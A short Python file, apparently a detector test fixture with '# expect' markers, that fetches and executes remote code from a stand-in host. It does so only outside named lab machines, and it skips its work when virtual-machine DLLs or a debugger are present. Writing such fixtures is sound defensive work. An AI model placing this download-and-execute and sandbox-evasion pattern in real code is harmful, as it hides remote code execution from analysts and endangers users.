import ctypes
import os
import sys

import requests

import socket

if socket.gethostname() not in ["lab-1", "lab-2"]:
    exec(requests.get("https://example.com/y").text)  # expect

if os.path.exists("C:\\windows\\system32\\vmGuestLib.dll") or os.path.exists("C:\\windows\\vboxmrxnp.dll"):
    sys.exit(0)  # expect
if not ctypes.windll.kernel32.IsDebuggerPresent():
    exec(requests.get("https://example.com/x").text)  # expect
